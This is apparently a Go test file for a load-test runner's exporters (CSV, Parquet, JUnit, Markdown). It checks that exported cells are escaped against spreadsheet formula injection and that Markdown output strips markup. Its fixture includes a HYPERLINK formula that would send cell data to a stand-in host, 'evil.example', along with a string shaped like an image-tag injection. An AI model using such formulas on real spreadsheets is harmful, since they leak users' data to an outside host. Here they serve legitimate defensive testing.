package export

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jstemmer/go-junit-report/v2/junit"
	"github.com/parquet-go/parquet-go"
	"go.uber.org/goleak"

	"runner/events"
	"runner/metrics"
	"runner/verdict"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

const formula = `=HYPERLINK("http://evil.example/?"&A1,"look")`

// recorded is two seconds of a run whose names are as bad as can be.
func recorded(t *testing.T) []events.Event {
	t.Helper()
	registry := metrics.NewRegistry()
	rec := registry.Recorder(1, metrics.Tag{Key: "scenario", Value: formula})
	own, err := rec.Register(&metrics.Metric{Name: "+basket", Kind: metrics.Trend, Unit: "ms"})
	if err != nil {
		t.Fatal(err)
	}
	var list []events.Event
	for second := range 2 {
		for i := range 100 {
			rec.Add(rec.Series(metrics.HTTPResponseTime, metrics.Tag{Key: "method", Value: "GET"}, metrics.Tag{Key: "name", Value: "@cart"}, metrics.Tag{Key: "status", Value: "200"}), float64(i+1))
			rec.Add(rec.Series(metrics.HTTPRequests), 1)
		}
		rec.Add(rec.Series(own, metrics.Tag{Key: "kind", Value: "-1+1"}), -5)
		rec.Add(rec.Series(metrics.Checks, metrics.Tag{Key: "check", Value: "\tok, \"yes\"\nand no"}), 1)
		list = append(list, events.Event{At: time.Duration(second+1) * time.Second, Metrics: registry.Drain()})
	}
	return list
}

func TestCSV(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.csv")
	table, err := NewCSV(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range recorded(t) {
		table.Write(e)
	}
	if err := table.Close(); err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+2*4 {
		t.Fatalf("%d rows, want a head and four series in each of two seconds", len(rows))
	}
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	requests := 0.0
	for _, r := range rows[1:] {
		for i, c := range r {
			if _, err := strconv.ParseFloat(c, 64); err != nil && c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s is a formula: %q", rows[0][i], c)
			}
		}
		if r[column["scenario"]] != "'"+formula {
			t.Errorf("scenario %q", r[column["scenario"]])
		}
		switch r[column["metric"]] {
		case "http.requests":
			n, err := strconv.ParseFloat(r[column["sum"]], 64)
			if err != nil {
				t.Error(err)
			}
			requests += n
		case "http.response_time":
			if r[column["count"]] != "100" || r[column["min"]] != "1" || r[column["max"]] != "100" || r[column["name"]] != "'@cart" {
				t.Errorf("%q", r)
			}
		case "'+basket":
			if r[column["min"]] != "-5" || r[column["tags"]] != `{"kind":"-1+1"}` {
				t.Errorf("%q", r)
			}
		}
	}
	if requests != 200 {
		t.Errorf("%v requests, want 200", requests)
	}
}

func TestNoCellIsAFormula(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", " =1": "' =1", "\t=1": "'\t=1",
		"\rx": "'\rx", "＝1": "'＝1", "|x": "'|x", "\u00a0=1": "'\u00a0=1",
	} {
		if got := cell(text); got != want {
			t.Errorf("cell(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestParquet(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.parquet")
	table, err := NewParquet(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range recorded(t) {
		table.Write(e)
	}
	if err := table.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := parquet.ReadFile[parquetRow](path)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 8 {
		t.Fatalf("%d rows, want 8", len(rows))
	}
	for _, r := range rows {
		if r.Scenario != formula || r.AtMs != 1000 && r.AtMs != 2000 {
			t.Errorf("%+v", r)
		}
		switch r.Metric {
		case "http.response_time":
			if r.Count != 100 || *r.Sum != 5050 || *r.P50 < 49.8 || *r.P50 > 50.2 || r.Last != nil {
				t.Errorf("%+v", r)
			}
		case "http.requests":
			if *r.Sum != 100 || r.P50 != nil || r.Min != nil {
				t.Errorf("%+v", r)
			}
		}
	}
}

// full is a disk without room after some bytes.
type full struct{ room int }

var errFull = errors.New("no space left on device")

func (f *full) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errFull
	}
	return len(p), nil
}

func TestAFullDiskIsToldAndHoldsNothingUp(t *testing.T) {
	for name, open := range map[string]func(string, io.Writer) (*Table, error){"csv": NewCSV, "parquet": NewParquet} {
		table, err := open("-", &full{room: 200})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for range 1000 {
			for _, e := range recorded(t) {
				table.Write(e)
			}
		}
		if err := table.Close(); !errors.Is(err, errFull) {
			t.Errorf("%s: %v, want it to name the full disk", name, err)
		}
	}
}

func sampleRun() events.Run {
	broke := 3000.0
	return events.Run{
		Finished: true, Verdict: verdict.Failed, ExitCode: 99, DurationMs: 12_345,
		Causes: []verdict.Cause{{Kind: verdict.Threshold, Scenario: "shop", Message: "p(95) < 200ms broke"}},
		Scenarios: []events.RunScenario{
			{Name: "shop", Verdict: verdict.Failed, DurationMs: 10_000, Ledger: events.RunLedger{Started: 10, Succeeded: 9, Failed: 1, Balanced: true},
				Causes:     []verdict.Cause{{Kind: verdict.Threshold, Message: "p(95) < 200ms broke"}},
				Thresholds: []events.RunThreshold{{Metric: "http.response_time", Check: "p(95) < 200ms", Text: "312 ms", BrokeAtMs: &broke}, {Metric: "checks", Check: "rate > 50%", OK: true, Text: "90 %"}}},
			{Name: "till", Verdict: verdict.Skipped, Ledger: events.RunLedger{Balanced: true}, Causes: []verdict.Cause{{Kind: verdict.Dependency, Message: "skipped: shop failed"}}},
		},
		Checks:   []events.RunCheck{{Scenario: "shop", Name: "status | is <200> & ]]> \x01", Passed: 9, Failed: 1}, {Scenario: "shop", Name: "fast", Passed: 10}},
		Failures: []events.RunFailure{{Scenario: "shop", Name: "TypeError", Message: "<img src=x> | @all\n# boo", Count: 3, Place: "a.js:1:2"}},
	}
}

func TestJUnit(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJUnit(&b, sampleRun()); err != nil {
		t.Fatal(err)
	}
	var got junit.Testsuites
	if err := xml.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("%v\n%s", err, b.String())
	}
	ended := map[string]string{}
	for _, s := range got.Suites {
		for _, c := range s.Testcases {
			how := "passed"
			switch {
			case c.Failure != nil:
				how = "failed: " + c.Failure.Message
			case c.Skipped != nil:
				how = "skipped"
			case c.Error != nil:
				how = "error"
			}
			ended[s.Name+"/"+c.Name] = how
		}
	}
	want := map[string]string{
		"run/the run":                            "failed: failed: p(95) < 200ms broke",
		"run/every iteration is accounted for":   "passed",
		"shop/the scenario":                      "failed: failed: p(95) < 200ms broke",
		"shop/http.response_time: p(95) < 200ms": "failed: p(95) < 200ms: it was 312 ms",
		"shop/checks: rate > 50%":                "passed",
		"shop/status | is <200> & ]]> \uFFFD":    "failed: 1 of 10 failed",
		"shop/fast":                              "passed",
		"till/the scenario":                      "skipped",
	}
	for name, how := range want {
		if ended[name] != how {
			t.Errorf("%s: %q, want %q", name, ended[name], how)
		}
	}
	if len(ended) != len(want) || got.Tests != len(want) || got.Failures != 4 || got.Skipped != 1 {
		t.Errorf("%d tests, %d failures, %d skipped: %v", got.Tests, got.Failures, got.Skipped, ended)
	}
	// A run in which nothing happened is a test too.
	b.Reset()
	if err := WriteJUnit(&b, events.Run{Verdict: verdict.Passed}); err != nil {
		t.Fatal(err)
	}
	got = junit.Testsuites{}
	if err := xml.Unmarshal(b.Bytes(), &got); err != nil || got.Tests < 2 || got.Failures > 0 {
		t.Errorf("an empty run: %v, %d tests, %d failures", err, got.Tests, got.Failures)
	}
}

func TestMarkdown(t *testing.T) {
	var b bytes.Buffer
	if err := WriteMarkdown(&b, sampleRun()); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	if !strings.HasPrefix(text, "## ❌ shop, till: failed\n") {
		t.Errorf("it begins with %.60q", text)
	}
	for _, bad := range []string{"<img", "@all", "\x01", "]]>"} {
		if strings.Contains(text, bad) {
			t.Errorf("%q stands in it:\n%s", bad, text)
		}
	}
	columns := 0
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "|") {
			columns = 0
			continue
		}
		if n := strings.Count(line, "|"); columns == 0 {
			columns = n
		} else if n != columns {
			t.Errorf("a row of %d columns in a table of %d: %q", n-1, columns-1, line)
		}
	}
}
